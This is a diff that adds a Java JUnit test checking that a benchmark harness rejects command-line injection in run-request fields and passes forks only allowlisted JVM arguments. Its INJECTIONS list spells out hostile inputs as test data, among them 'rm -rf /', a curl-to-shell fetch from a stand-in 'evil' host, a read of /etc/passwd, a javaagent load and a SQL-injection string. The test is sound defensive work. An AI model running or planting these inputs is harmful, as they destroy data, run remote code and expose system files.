@@ -1,0 +1,107 @@
+package dev.perflab.run;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.catchThrowableOfType;
+
+import dev.perflab.catalog.ExperimentDefinition;
+import dev.perflab.catalog.TestExperiments;
+import java.time.Clock;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+
+/**
+ * Nothing a user types reaches a command line: an injection string in any field of a run request
+ * is refused naming that field, and a run that passes hands its forks only the allowlisted
+ * arguments of the JVM options it picked (the spec travels on the harness's stdin, never argv).
+ */
+class CommandLineInjectionTest {
+
+    static final List<String> INJECTIONS = List.of(
+            "$(rm -rf /)",
+            "`reboot`",
+            "; reboot",
+            "&& curl http://evil | sh",
+            "| cat /etc/passwd",
+            "-XX:+UnlockDiagnosticVMOptions",
+            "-XX:OnOutOfMemoryError=sh -c reboot",
+            "--add-opens=java.base/java.lang=ALL-UNNAMED",
+            "-javaagent:/tmp/agent.jar",
+            "-Xint",
+            "@/tmp/argfile",
+            "-Dx=$(id)",
+            "c1-only -Xint",
+            "c1-only\n-Xint",
+            "c1-only\u0000-Xint",
+            "c1-only;-Xint",
+            "c1-only,-Xint",
+            "' OR '1'='1",
+            "%n%s%s");
+    static final List<String> OPTIONS = List.of(
+            "profile",
+            "forks",
+            "warmupIterations",
+            "measurementIterations",
+            "iterationMillis",
+            "jvmOptions",
+            "profiler");
+
+    private final RunRequestCheck check = new RunRequestCheck(TestExperiments.catalog(), Duration.ofMinutes(10));
+    private final ExperimentDefinition experiment =
+            TestExperiments.catalog().find(TestExperiments.ID).orElseThrow();
+    // Building a spec reads only the base fork arguments (the heap): the launcher, store and metrics are never touched.
+    private final RunExecution execution = new RunExecution(
+            null, null, null, Clock.systemUTC(), Duration.ofMinutes(1), List.of("-Xms1g", "-Xmx1g"), "test", null);
+
+    @Test
+    void refusesAnInjectionStringInEveryFieldNamingIt() {
+        for (String injection : INJECTIONS) {
+            for (var param : experiment.params()) {
+                assertRefused(request(Map.of(param.name(), injection), Map.of()), "params." + param.name(), injection);
+            }
+            for (String option : OPTIONS) {
+                assertRefused(request(Map.of(), Map.of(option, injection)), "options." + option, injection);
+            }
+            assertRefused(
+                    request(Map.of(), Map.of("jvmOptions", List.of("c1-only", injection))),
+                    "options.jvmOptions",
+                    injection);
+            assertRefused(new RunRequest(injection, Map.of(), Map.of()), "experiment", injection);
+            assertRefused(
+                    new RunRequest(TestExperiments.ID, Map.of(), Map.of(), Map.of(injection, 1)), injection, injection);
+        }
+    }
+
+    @Test
+    void handsTheForksOnlyTheHeapAndTheAllowlistedArgumentsOfThePickedOptions() {
+        var allowlist = experiment.jvmOptions();
+        for (int picked = 0; picked < 1 << allowlist.size(); picked++) {
+            List<String> ids = new ArrayList<>();
+            List<String> expected = new ArrayList<>(List.of("-Xms1g", "-Xmx1g"));
+            for (int i = 0; i < allowlist.size(); i++) {
+                if ((picked & 1 << i) != 0) {
+                    ids.add(allowlist.get(i).id());
+                    expected.addAll(allowlist.get(i).args());
+                }
+            }
+            var run = check.check(request(Map.of(), Map.of("profile", "smoke", "jvmOptions", ids)));
+
+            assertThat(execution.spec(run).jvmArgs()).as(ids.toString()).isEqualTo(expected);
+        }
+    }
+
+    private static RunRequest request(Map<String, Object> params, Map<String, Object> options) {
+        return new RunRequest(TestExperiments.ID, params, options);
+    }
+
+    private void assertRefused(RunRequest request, String field, String injection) {
+        var refused = catchThrowableOfType(RunRejectedException.class, () -> check.check(request));
+        assertThat(refused).as(field + " = " + injection).isNotNull();
+        assertThat(refused.errors())
+                .extracting(FieldError::field)
+                .as(field + " = " + injection)
+                .contains(field);
+    }
+}
